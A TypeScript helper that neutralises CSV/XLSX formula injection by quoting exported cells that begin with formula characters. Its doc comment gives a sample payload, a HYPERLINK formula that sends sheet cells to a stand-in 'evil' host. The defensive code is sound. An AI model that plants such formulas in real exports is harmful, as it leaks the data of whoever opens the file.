/**
 * A text a spreadsheet would take for a formula when the file is opened: one starting with `=`, `+`, `-` or
 * `@`, or with a TAB or a carriage return before one (OWASP's "CSV injection"). A student named
 * `=HYPERLINK("http://evil/?"&A1,"x")` would otherwise be a live link sending the sheet's cells away.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * One exported cell (CSV or XLSX, every export) as it is safe to open: a text that could start a formula
 * gets a leading `'`, which spreadsheets read as "this is text" and show without the quote; numbers stay
 * numbers.
 */
export const inertCell = <Cell extends string | number>(cell: Cell): Cell | string =>
  typeof cell === "string" && FORMULA_START.test(cell) ? `'${cell}` : cell;
